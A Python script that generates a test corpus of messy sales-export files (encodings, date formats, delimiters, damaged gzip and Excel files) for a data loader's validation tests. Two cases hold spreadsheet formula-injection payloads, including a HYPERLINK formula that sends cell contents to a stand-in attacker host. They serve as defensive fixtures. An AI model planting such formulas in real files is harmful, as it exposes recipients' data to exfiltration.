"""Write the bad-input corpus: messy transaction exports the loader must survive.

Every case is a small file plus what the loader must do with it:

* ``Loads``: read it correctly. ``rows`` is the number of data lines in the file
  (counted here, independently of pandas); the cleaning report must account for
  every one of them (``rows_in == rows`` and ``rows_in == kept + dropped``), and
  ``dropped`` lists the reasons the cleaning step must give.
* ``Fails``: raise :class:`helpers.data.DataValidationError` whose message names the
  file, the column (when one is to blame) and shows the offending row or bytes.

The files are generated (never committed), so the corpus stays a few kilobytes of
Python. ``tests/test_bad_inputs.py`` builds it once per session into a temporary
folder; to look at the files yourself::

    .venv/bin/python tests/bad_inputs/make_corpus.py /tmp/bad_inputs
"""

from __future__ import annotations

import gzip
import io
import sys
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd

HEADER = "order_id,customer_id,order_date,product_name,quantity,unit_price"
GOOD = [
    "1001,C01,2024-01-05 10:00:00,Jade Bangle,1,120.00",
    "1002,C02,2024-01-06 11:30:00,Tea Set,2,88.50",
    "1003,C01,2024-02-01 09:15:00,Silk Scarf,1,260.00",
]


@dataclass(frozen=True)
class Loads:
    """The file must load; ``rows`` data lines, all accounted for by the cleaning report."""

    rows: int
    dropped: dict[str, int] = field(default_factory=dict)
    options: dict = field(default_factory=dict)
    #: (row position, column, expected value) checks on the loaded (uncleaned) frame.
    values: tuple[tuple[int, str, object], ...] = ()


@dataclass(frozen=True)
class Fails:
    """The file must raise DataValidationError naming ``column`` and showing ``example``."""

    column: str | None
    example: str
    options: dict = field(default_factory=dict)


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    content: bytes
    expect: Loads | Fails
    why: str


def _csv(*lines: str, header: str = HEADER, encoding: str = "utf-8") -> bytes:
    return ("\n".join([header, *lines]) + "\n").encode(encoding)


def _xlsx(sheets: dict[str, pd.DataFrame | None]) -> bytes:
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            (frame if frame is not None else pd.DataFrame()).to_excel(writer, sheet_name=name, index=False)
    return buffer.getvalue()


def _good_frame() -> pd.DataFrame:
    rows = [line.split(",") for line in GOOD]
    return pd.DataFrame(rows, columns=HEADER.split(",")).astype({"quantity": int, "unit_price": float})


def cases() -> list[Case]:
    """Every case of the corpus, in a stable order."""
    whole_gz = gzip.compress(_csv(*(GOOD * 2000)), mtime=0)
    cover = pd.DataFrame({"Monthly sales export": ["Shop: Kowloon Bay online store", "Generated 2024-03-01"]})
    return [
        Case("empty", "empty.csv", b"", Fails(None, "empty"), "zero-byte file"),
        Case("blank_lines_only", "blank.csv", b"\n\n  \n", Fails(None, "empty"), "only whitespace"),
        Case("header_only", "header_only.csv", _csv(), Fails(None, "header only"), "header, no data"),
        Case(
            "missing_required_column", "no_customer.csv",
            _csv("1001,2024-01-05,Jade Bangle,1,120", header="order_id,order_date,product_name,quantity,unit_price"),
            Fails("customer_id", "order_id"), "no customer column at all",
        ),
        Case(
            "renamed_columns_no_mapping", "renamed.csv",
            _csv("1001,C01,2024-01-05,120", header="Invoice,Member,Date,Total"),
            Fails("order_id", "Member"), "own column names, no columns= mapping",
        ),
        Case(
            "renamed_columns_with_mapping", "renamed_mapped.csv",
            _csv("1001,C01,2024-01-05,120", "1002,C02,2024-01-06,30", header="Invoice,Member,Date,Total"),
            Loads(2, options={"columns": {"order_id": "Invoice", "customer_id": "Member",
                                          "order_date": "Date", "amount": "Total"}},
                  values=((1, "amount", 30.0),)),
            "the same file with a mapping loads",
        ),
        Case(
            "date_day_first", "dates_dmy.csv",
            _csv("1001,C01,05/01/2024,Jade Bangle,1,120", "1002,C02,31/01/2024,Tea Set,2,88.5"),
            Fails("order_date", "31/01/2024"), "dd/mm/yyyy without date_format",
        ),
        Case(
            "date_day_first_with_format", "dates_dmy_ok.csv",
            _csv("1001,C01,05/01/2024,Jade Bangle,1,120", "1002,C02,31/01/2024,Tea Set,2,88.5"),
            Loads(2, options={"date_format": "%d/%m/%Y"}, values=((0, "order_date", pd.Timestamp("2024-01-05")),)),
            "dd/mm/yyyy with date_format: 5 January, not 1 May",
        ),
        Case(
            "date_month_names", "dates_text.csv",
            _csv("1001,C01,5-Jan-2024,Jade Bangle,1,120", "1002,C02,6-Jan-2024,Tea Set,2,88.5"),
            Fails("order_date", "5-Jan-2024"), "d-Mon-yyyy",
        ),
        Case(
            "date_excel_serial", "dates_serial.csv",
            _csv("1001,C01,45296,Jade Bangle,1,120", "1002,C02,45297,Tea Set,2,88.5"),
            Fails("order_date", "45296"), "Excel day numbers",
        ),
        Case(
            "date_chinese", "dates_zh.csv",
            _csv("1001,C01,2024年1月5日,Jade Bangle,1,120"),
            Fails("order_date", "2024年1月5日"), "Chinese date text",
        ),
        Case(
            "text_in_quantity", "text_quantity.csv",
            _csv(GOOD[0], "1002,C02,2024-01-06,Tea Set,two,88.5"),
            Fails("quantity", "two"), "a word where a number belongs",
        ),
        Case(
            "text_in_price", "text_price.csv",
            _csv(GOOD[0], "1002,C02,2024-01-06,Tea Set,2,N/A"),
            Fails("unit_price", "N/A"), "N/A where a price belongs",
        ),
        Case(
            "infinite_price", "inf_price.csv",
            _csv(GOOD[0], "1002,C02,2024-01-06,Tea Set,2,1e999"),
            Fails("unit_price", "row 3"), "a number too large for a float becomes infinity",
        ),
        Case(
            "thousands_and_currency", "money_text.csv",
            _csv('1001,C01,2024-01-05,Jade Bangle,1,"HK$1,200.50"', "1002,C02,2024-01-06,Tea Set,2,$88.50"),
            Loads(2, values=((0, "unit_price", 1200.5), (1, "amount", 177.0))),
            "thousands separators and currency signs are stripped",
        ),
        Case(
            "latin1_encoding", "latin1.csv",
            _csv("1001,C01,2024-01-05,Café crème £5 voucher,1,120"[:], encoding="latin-1"),
            Fails(None, "encoding="), "Latin-1 bytes without encoding=",
        ),
        Case(
            "latin1_with_encoding", "latin1_ok.csv",
            _csv("1001,C01,2024-01-05,Café crème £5 voucher,1,120", encoding="latin-1"),
            Loads(1, options={"encoding": "latin-1"}, values=((0, "product_name", "Café crème £5 voucher"),)),
            "the same file with encoding='latin-1'",
        ),
        Case(
            "big5_encoding", "big5.csv",
            _csv("1001,C01,2024-01-05,翡翠手鐲,1,120", encoding="big5"),
            Fails(None, "encoding="), "Big5 bytes without encoding=",
        ),
        Case(
            "big5_with_encoding", "big5_ok.csv",
            _csv("1001,C01,2024-01-05,翡翠手鐲,1,120", encoding="big5"),
            Loads(1, options={"encoding": "big5"}, values=((0, "product_name", "翡翠手鐲"),)),
            "the same file with encoding='big5'",
        ),
        Case(
            "utf8_bom", "bom.csv", b"\xef\xbb\xbf" + _csv(*GOOD),
            Loads(3, values=((0, "order_id", "1001"),)), "Excel's 'CSV UTF-8' writes a byte-order mark",
        ),
        Case(
            "crlf_and_blank_lines", "crlf.csv", _csv(*GOOD).replace(b"\n", b"\r\n") + b"\r\n\r\n",
            Loads(3), "Windows line endings and trailing blank lines",
        ),
        Case(
            "repeated_header_mid_file", "two_exports.csv", _csv(GOOD[0], GOOD[1], HEADER, GOOD[2]),
            Fails("order_date", "row 4"), "two exports pasted together",
        ),
        Case(
            "semicolon_delimiter", "semicolon.csv", _csv(*(line.replace(",", ";") for line in GOOD),
                                                         header=HEADER.replace(",", ";")),
            Loads(3, values=((1, "amount", 177.0),)), "European-style export, decimal point",
        ),
        Case(
            "semicolon_decimal_comma", "semicolon_comma.csv",
            _csv("1001;C01;2024-01-05;Jade Bangle;1;120,50", "1002;C02;2024-01-06;Tea Set;2;88,25",
                 header=HEADER.replace(",", ";")),
            Loads(2, values=((0, "unit_price", 120.5), (1, "amount", 176.5))),
            "semicolon export with decimal commas: 120,50 is 120.5, never 12050",
        ),
        Case(
            "tab_delimiter", "tabs.tsv", _csv(*(line.replace(",", "\t") for line in GOOD), header=HEADER.replace(",", "\t")),
            Loads(3), "tab-separated",
        ),
        Case(
            "huge_quantities", "huge.csv",
            _csv(GOOD[0], "1002,C02,2024-01-06,Tea Set,9000000000000,88.5", "1003,C03,2024-01-07,Fan,80995,0.5"),
            Loads(3, values=((1, "quantity", 9e12), (1, "amount", 9e12 * 88.5), (2, "amount", 40497.5))),
            "quantities far beyond int32, kept exactly",
        ),
        Case(
            "negative_prices", "negative_price.csv",
            _csv(GOOD[0], "1002,C02,2024-01-06,Adjust bad debt,1,-11062.06", "1003,C03,2024-01-07,Free gift,1,0"),
            Loads(3, dropped={"non_positive_price": 2}), "bad-debt adjustments and free lines are dropped, counted",
        ),
        Case(
            "cancellations_and_missing_customers", "dirty.csv",
            _csv(GOOD[0], "C1001,C01,2024-01-06,Jade Bangle,-1,120", "1004,,2024-01-06,Tea Set,1,88.5", GOOD[0]),
            Loads(4, dropped={"missing_customer_id": 1, "cancelled_order": 1, "duplicate_row": 1}),
            "every cleaning reason once",
        ),
        Case(
            "formula_in_customer_name", "formula.csv",
            _csv('1001,C01,2024-01-05,Jade Bangle,1,120,"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
                 "1002,C02,2024-01-06,Tea Set,2,88.5,@SUM(1+1)",
                 header=HEADER + ",customer_name"),
            Loads(2), "spreadsheet formula injection in a personal-data column (dropped by default)",
        ),
        Case(
            "formula_kept_verbatim", "formula_keep.csv",
            _csv('1001,C01,2024-01-05,Jade Bangle,1,120,"=HYPERLINK(""http://evil.example/"",""Click"")"',
                 header=HEADER + ",customer_name"),
            Loads(1, options={"pii": "keep"},
                  values=((0, "customer_name", '=HYPERLINK("http://evil.example/","Click")'),)),
            "with pii='keep' the text is kept as text, never evaluated",
        ),
        Case(
            "ragged_row", "ragged.csv", _csv(GOOD[0], GOOD[1] + ",extra,cells", GOOD[2]),
            Fails(None, "line 3"), "a line with more fields than the header",
        ),
        Case(
            "unclosed_quote", "unclosed_quote.csv", _csv(GOOD[0], '1002,C02,2024-01-06,"Tea Set,2,88.5', GOOD[2]),
            Fails(None, "EOF inside string"), "an unclosed quote would swallow the rest of the file",
        ),
        Case(
            "totals_row_at_bottom", "totals.csv", _csv(*GOOD, "Total,,,,4,468.5"),
            Fails("order_date", "row 5"), "a spreadsheet totals line under the data",
        ),
        Case(
            "missing_order_id", "no_order_id.csv", _csv(GOOD[0], ",C02,2024-01-06,Tea Set,2,88.5"),
            Fails("order_id", "row 3"), "a line without an order ID",
        ),
        Case("truncated_gzip", "cut.csv.gz", whole_gz[: len(whole_gz) // 2], Fails(None, "cut.csv.gz"),
             "download interrupted"),
        Case("not_gzip", "fake.csv.gz", _csv(*GOOD), Fails(None, "fake.csv.gz"), "named .gz but plain text"),
        Case(
            "excel_data_on_second_sheet", "second_sheet.xlsx",
            _xlsx({"Cover": cover, "Sales": _good_frame()}),
            Loads(3, values=((2, "amount", 260.0),)), "a cover sheet with a title, the data on sheet 2",
        ),
        Case(
            "excel_empty_first_sheet", "empty_first.xlsx", _xlsx({"Notes": None, "Sales": _good_frame()}),
            Loads(3), "an empty first sheet",
        ),
        Case("excel_not_a_workbook", "broken.xlsx", b"PK\x03\x04 this is not really a zip", Fails(None, "broken.xlsx"),
             "a damaged workbook"),
    ]


def data_lines(case: Case) -> int | None:
    """Data lines in a CSV case counted with the csv module (None for Excel/gzip)."""
    import csv

    if not case.filename.endswith((".csv", ".tsv")) or not case.content.strip():
        return None
    encoding = case.expect.options.get("encoding", "utf-8-sig") if isinstance(case.expect, Loads) else "utf-8-sig"
    try:
        text = case.content.decode(encoding)
    except UnicodeDecodeError:
        return None
    first = text.splitlines()[0]
    delimiter = max([",", ";", "\t"], key=first.count)
    rows = [row for row in csv.reader(io.StringIO(text), delimiter=delimiter) if any(cell.strip() for cell in row)]
    return len(rows) - 1


def write_corpus(folder: str | Path) -> dict[str, Path]:
    """Write every case into ``folder``; returns case name -> file."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    for case in cases():
        path = folder / case.filename
        path.write_bytes(case.content)
        written[case.name] = path
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "bad_inputs_corpus")
    for name, path in write_corpus(target).items():
        print(f"{name:<36} {path}")
